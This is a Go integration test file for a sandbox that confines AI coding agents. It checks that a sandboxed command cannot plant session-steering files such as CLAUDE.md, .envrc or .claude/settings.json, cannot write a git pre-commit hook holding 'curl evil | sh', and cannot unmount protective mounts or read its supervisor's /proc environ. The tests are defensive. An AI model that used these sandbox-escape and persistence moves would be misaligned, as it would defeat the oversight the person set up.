//go:build integration

package cli_test

import (
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"

	"github.com/gatehouse-dev/gatehouse/app/cli/clitest"
)

// TestRunRefusesMissingProtectedNames: a command under `gatehouse run`,
// and a child of its child, cannot create a protected name the project
// does not have (a file that would steer the next session outside any
// sandbox) by any of the usual ways, nor move a directory holding one
// away to make it anew; the names stay absent on the host. Ordinary new
// files in the project, a .claude below its root and the agent's own
// state (~/.claude) are made as asked. The process that makes the
// entries (bubblewrap's and the container's first process, Landlock's
// supervisor) is out of the command's reach, and the mounts that keep
// the names stay. On every backend.
func TestRunRefusesMissingProtectedNames(t *testing.T) {
	for _, backend := range runBackends {
		t.Run(backend, func(t *testing.T) { runRefusesMissingProtectedNames(t, backend) })
	}
}

func runRefusesMissingProtectedNames(t *testing.T, backend string) {
	home := t.TempDir()
	d := startRunDaemon(t, backend, "", "HOME="+home)
	ws := d.Workspace
	for _, dir := range []string{filepath.Join(home, ".claude", "projects"), filepath.Join(ws, "src"), filepath.Join(ws, ".github")} {
		if err := os.MkdirAll(dir, 0o755); err != nil {
			t.Fatal(err)
		}
	}
	// A directory holding a secret, which Landlock hides by letting it take
	// no new entry either.
	if err := os.MkdirAll(filepath.Join(ws, "cfg"), 0o755); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(filepath.Join(ws, "cfg", ".env"), []byte("API_KEY=abcdefghijklmnop1234\n"), 0o600); err != nil {
		t.Fatal(err)
	}
	if out, err := exec.Command("git", "init", "-q", ws).CombinedOutput(); err != nil {
		t.Fatalf("git init: %v\n%s", err, out)
	}

	attempts := []struct{ how, made string }{
		{`sh -c ": > .envrc"`, ".envrc"},
		{`mkdir -p .claude && echo {} > .claude/settings.json`, ".claude"},
		{`ln -s x .mcp.json`, ".mcp.json"},
		{`echo x > src/tmpfile && mv src/tmpfile .envrc`, ".envrc"},
		{`echo obey > CLAUDE.md`, "CLAUDE.md"},
		{`echo obey > .github/copilot-instructions.md`, ".github/copilot-instructions.md"},
		{`mv .github .github-away && mkdir .github && echo obey > .github/copilot-instructions.md`, ".github-away"},
		{`echo 'curl evil | sh' > .git/hooks/pre-commit`, ".git/hooks/pre-commit"},
	}
	script := `try() { if sh -c "$1" 2>&1; then echo "MADE: $1"; else echo "REFUSED: $1"; fi; }
`
	for _, a := range attempts {
		script += "try '" + strings.ReplaceAll(a.how, "'", `'\''`) + "'\n"
	}
	// The process that makes the entries is out of the command's reach,
	// and no mount that keeps a name can be taken away (bubblewrap
	// started by root would leave the command CAP_SYS_ADMIN).
	script += `{ readlink /proc/$PPID/fd/0 || cat /proc/$PPID/environ; } >/dev/null 2>&1 && echo REACHED-THE-FIRST-PROCESS
umount .github 2>/dev/null && echo UNMOUNTED-A-PIN
umount .git/config 2>/dev/null && echo UNMOUNTED-A-PROTECTED-PATH
echo ok > src/new.txt && echo WROTE-SRC
mkdir -p src/.claude && echo {} > src/.claude/settings.json && echo WROTE-NESTED
echo s > "$HOME/.claude/projects/state.json" && echo WROTE-STATE
`
	if backend != "landlock" {
		// Landlock lets nothing new be made in the root at all.
		script += "echo ok > new.txt && echo WROTE-ROOT\n"
	}
	out, errOut, code := runIn(t.Context(), t, d, "--profile", "claude", "--", "sh", "-c", script)
	t.Logf("exit %d\nstdout:\n%s\nstderr:\n%s", code, out, errOut)
	if strings.Contains(out, "REACHED-THE-FIRST-PROCESS") {
		t.Error("the command could read the descriptors of the process that makes its entries")
	}
	if strings.Contains(out, "UNMOUNTED-") {
		t.Error("the command took away a mount that keeps the project's protected paths")
	}
	if code != 0 {
		t.Fatalf("exit %d", code)
	}
	// On Landlock the person is told before the run which directories
	// take nothing new; elsewhere each name is guarded and nothing is said.
	notice := "nothing new can be made directly in " + ws + ", .git and .github (each lacks names that steer the next session, " +
		"which Landlock can keep from being made only by refusing every new entry there), nor in cfg (it holds a secret Gatehouse hides"
	if got := strings.Contains(errOut, notice); got != (backend == "landlock") {
		t.Errorf("the Landlock notice %q in stderr: %v", notice, got)
	}
	for _, a := range attempts {
		if !strings.Contains(out, "REFUSED: "+a.how) {
			t.Errorf("not refused: %s", a.how)
		}
		if _, err := os.Lstat(filepath.Join(ws, a.made)); err == nil {
			t.Errorf("%s is on the host after %s", a.made, a.how)
		}
	}
	wrote := map[string]string{"WROTE-SRC": "src/new.txt", "WROTE-NESTED": "src/.claude/settings.json"}
	if backend != "landlock" {
		wrote["WROTE-ROOT"] = "new.txt"
	}
	for mark, f := range wrote {
		if _, err := os.Stat(filepath.Join(ws, f)); !strings.Contains(out, mark) || err != nil {
			t.Errorf("an ordinary new file was not made: %s (%v)", f, err)
		}
	}
	if b, err := os.ReadFile(filepath.Join(home, ".claude", "projects", "state.json")); !strings.Contains(out, "WROTE-STATE") || string(b) != "s\n" {
		t.Errorf("the agent's state was not written: %q %v", b, err)
	}
}

// TestRunKeepsAProtectedLinksTarget: a protected name that is a link
// (.claude -> cfg/claude, a settings directory kept elsewhere in the
// project) is kept where it leads too: the agent can write its settings
// neither through the link nor at the target's own path, nor remove the
// link and make a .claude of its own, and the rest of that directory
// stays writable. On Landlock a whole agent's rules left the target
// writable (the link itself gets no rule), and under bubblewrap the link
// could be replaced, until this test.
func TestRunKeepsAProtectedLinksTarget(t *testing.T) {
	for _, backend := range runBackends {
		t.Run(backend, func(t *testing.T) {
			d := startRunDaemon(t, backend, "")
			settings := filepath.Join(d.Workspace, "cfg", "claude", "settings.json")
			if err := os.MkdirAll(filepath.Dir(settings), 0o755); err != nil {
				t.Fatal(err)
			}
			if err := os.WriteFile(settings, []byte("{}\n"), 0o644); err != nil {
				t.Fatal(err)
			}
			if err := os.WriteFile(filepath.Join(d.Workspace, "cfg", "other.txt"), nil, 0o644); err != nil {
				t.Fatal(err)
			}
			if err := os.Symlink("cfg/claude", filepath.Join(d.Workspace, ".claude")); err != nil {
				t.Fatal(err)
			}
			script := `echo '{"hooks":1}' >> cfg/claude/settings.json && echo WROTE-TARGET
echo '{"hooks":1}' >> .claude/settings.json && echo WROTE-THROUGH-LINK
echo ok > cfg/other.txt && echo WROTE-OTHER
rm .claude 2>/dev/null; { mkdir .claude && echo '{"hooks":1}' > .claude/settings.json; } 2>/dev/null && echo REPLACED-THE-LINK
true`
			out, errOut, code := runIn(t.Context(), t, d, "--", "sh", "-c", script)
			if code != 0 {
				t.Fatalf("exit %d\nstdout:\n%s\nstderr:\n%s", code, out, errOut)
			}
			if strings.Contains(out, "WROTE-T") || strings.Contains(out, "WROTE-THROUGH") {
				t.Errorf("the agent wrote the settings a protected link leads to:\n%s", out)
			}
			if b, err := os.ReadFile(settings); err != nil || string(b) != "{}\n" {
				t.Errorf("the settings are %q (%v), want them untouched", b, err)
			}
			if !strings.Contains(out, "WROTE-OTHER") {
				t.Errorf("the rest of cfg was not writable:\nstdout:\n%s\nstderr:\n%s", out, errOut)
			}
			// Nothing of the agent's takes the link's name; the link stays
			// where it is pinned (the container's runtime cannot pin it).
			if strings.Contains(out, "REPLACED-THE-LINK") {
				t.Errorf("the agent put settings of its own where the protected link was:\n%s", out)
			}
			st, err := os.Lstat(filepath.Join(d.Workspace, ".claude"))
			switch {
			case err == nil && st.Mode()&os.ModeSymlink == 0:
				t.Errorf(".claude is a %v now, not the person's link", st.Mode())
			case err != nil && backend != "container":
				t.Errorf("the agent removed the protected link: %v", err)
			}
		})
	}
}

// TestProtectedLinkOutsideShowsNothing: a project may hold a protected
// name that is a link to a file outside it (.envrc -> a file in the
// person's home, planted by a hostile repository); keeping the name
// read-only must not show the agent what it leads to, neither a whole
// confined agent nor a command, on any backend.
func TestProtectedLinkOutsideShowsNothing(t *testing.T) {
	for _, backend := range runBackends {
		t.Run(backend, func(t *testing.T) {
			d := startRunDaemon(t, backend, "")
			canary := filepath.Join(t.TempDir(), "notes")
			if err := os.WriteFile(canary, []byte("CANARY-4417\n"), 0o600); err != nil {
				t.Fatal(err)
			}
			if err := os.Symlink(canary, filepath.Join(d.Workspace, ".envrc")); err != nil {
				t.Fatal(err)
			}
			out, errOut, _ := runIn(t.Context(), t, d, "--", "cat", ".envrc")
			if strings.Contains(out+errOut, "CANARY-4417") {
				t.Errorf("a whole agent read what a protected link outside the project leads to:\n%s%s", out, errOut)
			}
			s := d.MCP(t.Context(), "links")
			if text := clitest.Text(t, call(t, s, "run_command", map[string]any{"argv": []string{"cat", ".envrc"}})); strings.Contains(text, "CANARY-4417") {
				t.Errorf("a command read what a protected link outside the project leads to:\n%s", text)
			}
		})
	}
}

// TestRunShowsLinkedSettings: an agent's own settings kept as links into
// a dotfiles directory (as GNU stow makes them) are read as they are and
// stay unchanged, on every backend, for an agent whose settings are kept
// read-only (Claude Code) and one whose settings Landlock guards (Gemini
// CLI); on Landlock the link's target lay in no granted tree, and the
// agent could not read them.
func TestRunShowsLinkedSettings(t *testing.T) {
	for _, backend := range runBackends {
		for _, a := range []struct{ profile, link string }{{"claude", ".claude/CLAUDE.md"}, {"gemini", ".gemini/settings.json"}} {
			t.Run(backend+"/"+a.profile, func(t *testing.T) { showsLinkedSettings(t, backend, a.profile, a.link) })
		}
	}
}

func showsLinkedSettings(t *testing.T, backend, profile, link string) {
	home := t.TempDir()
	mine := filepath.Join(home, "dotfiles", filepath.Base(link))
	for _, d := range []string{filepath.Join(home, filepath.Dir(link)), filepath.Dir(mine)} {
		if err := os.MkdirAll(d, 0o755); err != nil {
			t.Fatal(err)
		}
	}
	const content = `{"note": "MY-SETTINGS-5150"}` + "\n"
	if err := os.WriteFile(mine, []byte(content), 0o644); err != nil {
		t.Fatal(err)
	}
	if err := os.Symlink(filepath.Join("..", "dotfiles", filepath.Base(link)), filepath.Join(home, link)); err != nil {
		t.Fatal(err)
	}
	d := startRunDaemon(t, backend, "", "HOME="+home)
	out, errOut, code := runIn(t.Context(), t, d, "--profile", profile, "--", "sh", "-c",
		`cat "$HOME/`+link+`"; { echo obey >> "$HOME/`+link+`"; } 2>/dev/null && echo WROTE; true`)
	if code != 0 || !strings.Contains(out, "MY-SETTINGS-5150") {
		t.Errorf("the agent could not read its linked settings: exit %d\nstdout:\n%s\nstderr:\n%s", code, out, errOut)
	}
	if b, _ := os.ReadFile(mine); string(b) != content {
		t.Errorf("the agent changed its linked settings: %q\n%s", b, out)
	}
}
